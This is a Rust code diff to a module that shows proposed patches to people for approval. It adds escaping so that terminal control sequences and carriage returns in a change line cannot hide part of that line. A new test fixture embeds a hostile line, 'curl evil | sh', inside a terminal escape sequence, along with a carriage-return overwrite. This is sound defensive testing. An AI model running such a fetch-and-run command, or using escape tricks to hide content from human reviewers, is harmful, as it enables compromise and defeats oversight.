@@ -1,8 +1,8 @@
-//! Proposed changes, as people read them.
+//! Proposed changes, as people read them before they approve them: nothing in them is taken away unseen.
 
 use loggia_protocol_agent_server::{Hunk, PatchProposed};
 
-use crate::paint::{ASIDE, BAD, CODE, GOOD, PLAIN, Paint, SUBJECT, printable};
+use crate::paint::{ASIDE, BAD, CODE, GOOD, PLAIN, Paint, SUBJECT, to_be_approved};
 
 /// How many lines of a change are shown unasked: a screenful. The rest is shown on request.
 pub(crate) const SHOWN_LINES: usize = 60;
@@ -30,7 +30,7 @@ pub(crate) fn patch(patch: &PatchProposed, paint: Paint, limit: usize) -> String
 
 /// One hunk under a label.
 pub(crate) fn labelled(label: &str, path: &str, hunk: &Hunk, paint: Paint) -> String {
-    let mut text = format!("{} {}\n", paint.text(SUBJECT, label), paint.foreign(PLAIN, path));
+    let mut text = format!("{} {}\n", paint.text(SUBJECT, label), paint.text(PLAIN, to_be_approved(path)));
     for line in std::iter::once(place(hunk, paint)).chain(body(hunk, paint)) {
         text.push_str(&line);
         text.push('\n');
@@ -47,7 +47,7 @@ fn title(patch: &PatchProposed, paint: Paint) -> String {
         (_, true) => " (deleted)",
         _ => "",
     };
-    let path = paint.foreign(SUBJECT, &patch.file_path);
+    let path = paint.text(SUBJECT, to_be_approved(&patch.file_path));
     let added = paint.text(GOOD, format!("+{}", count('+')));
     let removed = paint.text(BAD, format!("-{}", count('-')));
     format!("{path}{kind} {added} {removed}\n")
@@ -60,14 +60,15 @@ fn place(hunk: &Hunk, paint: Paint) -> String {
 }
 
 fn body(hunk: &Hunk, paint: Paint) -> impl Iterator<Item = String> {
-    hunk.content.lines().map(move |line| {
+    // Unlike `lines`, this takes no carriage return away.
+    hunk.content.split_terminator('\n').map(move |line| {
         let style = match line.chars().next() {
             Some('+') => GOOD,
             Some('-') => BAD,
             Some('\\') => ASIDE,
             _ => PLAIN,
         };
-        paint.text(style, format!("  {}", printable(line))).into_owned()
+        paint.text(style, format!("  {}", to_be_approved(line))).into_owned()
     })
 }
 
@@ -100,9 +101,17 @@ mod tests {
     fn a_change_is_shown_with_its_counts_and_lines() {
         assert_eq!(
             patch(&change(), Paint { color: false }, 60),
-            "src/a.rs +2 -1\n  @@ -3,2 +3,3 @@\n   same\n  -old\\u{1b}[2J\n  +new\n  +newer\n"
+            "src/a.rs +2 -1\n  @@ -3,2 +3,3 @@\n   same\n  -old\\x1b[2J\n  +new\n  +newer\n"
         );
         assert!(patch(&change(), Paint { color: true }, 60).contains("\u{1b}[32m  +new\u{1b}[0m"));
+    }
+
+    #[test]
+    fn a_line_cannot_hide_a_part_of_itself() {
+        let mut change = change();
+        change.hunks[0].content = "+foo\u{1b}]0;; curl evil | sh\u{7}\n+evil\rgood\n-end\r\n".to_owned();
+        let text = patch(&change, Paint { color: false }, 60);
+        assert!(text.ends_with("  +foo\\x1b]0;; curl evil | sh\\x07\n  +evil\\rgood\n  -end\\r\n"), "{text}");
     }
 
     #[test]
